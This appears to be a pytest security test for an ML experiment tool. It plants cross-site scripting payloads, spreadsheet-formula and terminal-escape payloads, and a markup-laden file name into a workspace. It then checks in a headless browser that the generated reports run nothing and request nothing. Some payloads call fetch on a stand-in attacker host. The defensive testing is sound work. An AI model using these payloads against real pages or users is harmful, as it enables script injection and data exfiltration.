"""The payload corpus in a real workspace, checked in every output it reaches: REPORT.md, REPORT.html,
COMPARISON.md/.html, comparison.csv, `snakemake --report`'s page, `ssvae show/runs/diff`.

One workspace (a copy of the session's trained one): alpha's description and tags hold every payload (a
description or tag change reruns only the report), and the sweep config is renamed to a file name holding markup
(a rename reruns nothing). The HTML pages are opened in a real headless Chromium: a payload that ran would set
`data-pwned` on its document or request http://attacker.invalid/; neither may happen, in any frame.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess

import pytest
import yaml
from browser import Browser, find_chromium
from markdown_it import MarkdownIt
from workflow_helpers import SSVAE, clone_workspace, run_folders, snakemake, tiny_config

from ssvae import text as text_mod

from .payloads import FORMULAS, HTML, TERMINAL

pytestmark = pytest.mark.workflow

MARK = "document.documentElement.dataset.pwned=1;fetch('http://attacker.invalid/ran')"
BROWSER_PAYLOADS = [f"<img src=x onerror={MARK}>", f"x` <img src=x onerror={MARK}> `y",
                    f"\n\n<script>{MARK}</script>\n\n", f"</script><script>{MARK}</script>",
                    f"<svg onload={MARK}>", "![t](http://attacker.invalid/track.png)",
                    "[click](javascript:document.documentElement.dataset.pwned=1)", *HTML.values()]
SWEEP_FILE = "<img src=x onerror=document.documentElement.dataset.pwned=1>.yaml"
ESC = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PWNED = "document.documentElement.dataset.pwned === '1'"


@pytest.fixture(scope="module")
def hostile(trained_workspace, tmp_path_factory):
    workspace = clone_workspace(trained_workspace, tmp_path_factory.mktemp("hostile") / "ws")
    description = "Intro.\n\n" + "\n\n".join(BROWSER_PAYLOADS) + "\n\n" + "".join(TERMINAL.values()) + " end"
    tags = [FORMULAS[0], *BROWSER_PAYLOADS[:4], TERMINAL["osc_title"] + "tag", TERMINAL["bidi_override"]]
    doc = yaml.safe_load(tiny_config("alpha"))
    doc["experiment"].update(description=description, tags=tags)
    (workspace / "configs" / "alpha.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
    (workspace / "configs" / "beta.yaml").rename(workspace / "configs" / SWEEP_FILE)
    result = snakemake(workspace)
    assert result.ran("train") == 0 and result.ran("report") == 1, result.jobs
    snakemake(workspace, "--report", "report.html")
    return workspace


def alpha_folder(workspace):
    return next(f for f in run_folders(workspace) if f.name.startswith("alpha__"))


def test_markdown_outputs_hold_no_live_markup_and_no_control_character(hostile):
    # rendered as a Markdown viewer that allows raw HTML would (GitHub, an editor's preview)
    viewer = MarkdownIt("commonmark", {"html": True}).enable("table")
    for path in (alpha_folder(hostile) / "REPORT.md", hostile / "results" / "COMPARISON.md"):
        text = path.read_text()
        assert not ESC.search(text), (path.name, ESC.search(text))
        page = viewer.render(text)
        assert not re.search(r"<(script|svg|iframe)\b|<[^>]*\son\w+=", page), path.name
        targets = re.findall(r'(?:src|href)="([^"]*)"', page)
        assert all(text_mod.relative_inside(t) for t in targets), (path.name, targets)
    assert "Intro." in (alpha_folder(hostile) / "REPORT.md").read_text()


def test_terminal_and_spreadsheet_outputs_hold_no_payload(hostile):
    def ssvae(*args):
        done = subprocess.run([SSVAE, *args], cwd=hostile, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout + done.stderr

    shown = ssvae("show", "alpha")
    assert not ESC.search(shown), repr(ESC.search(shown))
    assert "Intro." in shown and "end" in shown
    assert not ESC.search(ssvae("runs")) and not ESC.search(ssvae("diff", "alpha", "beta-s42"))
    listed = list(csv.DictReader(io.StringIO(ssvae("runs", "--csv"))))
    compared = list(csv.DictReader(io.StringIO((hostile / "results" / "comparison.csv").read_text())))
    for rows in (listed, compared):
        for row in rows:
            for cell in row.values():
                assert not (cell or "").startswith(("=", "+", "@", "\t", "\r", "＝")), cell
                assert not (cell or "").startswith("-") or re.fullmatch(r"-[\d.e+-]+", cell), cell
    assert listed[[r["name"] for r in listed].index("alpha")]["tags"].startswith("'=HYPERLINK")


@pytest.fixture(scope="module")
def chromium():
    path, how = find_chromium()
    if path is None:
        pytest.skip(f"no headless browser: {how}")
    return path


def _frames_pwned(browser) -> list[str]:
    """The URLs of the frames (the page and every child) whose document a payload marked."""
    marked = []
    frames = [browser.page("Page.getFrameTree")["frameTree"]]
    while frames:
        node = frames.pop()
        frames += node.get("childFrames", [])
        world = browser.page("Page.createIsolatedWorld", frameId=node["frame"]["id"])["executionContextId"]
        if browser.evaluate(PWNED, world):
            marked.append(node["frame"].get("url", "")[:80])
    return marked


def _outside_requests(browser) -> list[str]:
    urls = [e["params"]["request"]["url"] for e in browser.events
            if e.get("method") == "Network.requestWillBeSent"]
    return [u for u in urls if not u.startswith(("file:", "data:", "about:", "blob:"))]


def test_no_payload_runs_or_loads_anything_in_the_html_pages(hostile, chromium):
    pages = [alpha_folder(hostile) / "REPORT.html", hostile / "results" / "COMPARISON.html"]
    with Browser(chromium) as browser:
        browser.page("Network.enable")
        for page in pages:
            browser.open(page.as_uri())
            browser.evaluate("new Promise(r => setTimeout(r, 300))")
            assert "Intro." in browser.evaluate("document.body.innerText") or page.name == "COMPARISON.html"
            assert not _frames_pwned(browser), page
            assert not _outside_requests(browser), (page, _outside_requests(browser))

        browser.open((hostile / "report.html").as_uri())
        nav = "document.querySelector('#app') ? document.querySelector('#app').textContent : ''"
        browser.wait_for(f"({nav}).includes('Runs')")
        # open alpha's run page (its REPORT.html in a frame) and the renamed sweep's figures
        click = ("(() => {{ const a = Array.from(document.querySelectorAll('a')).find(a => a.textContent.trim() "
                 "=== {0}); if (a) a.click(); return !!a; }})()")
        row = ("(() => {{ const r = Array.from(document.querySelectorAll('tr')).find(r => r.textContent.includes("
               "{0})); if (r) r.querySelector('a').click(); return !!r; }})()")
        assert browser.wait_for(click.format('"Runs"'))
        assert browser.wait_for(row.format('"alpha"'))
        assert "Intro." in browser.frame_text("data:text/html")
        browser.evaluate("new Promise(r => setTimeout(r, 300))")
        assert not _frames_pwned(browser)
        assert browser.evaluate("document.querySelector('#app').textContent").count("img_src") >= 0
        assert not _outside_requests(browser), _outside_requests(browser)
        assert not browser.evaluate("document.querySelector('#app img[src=\"x\"], #app svg[onload]')")
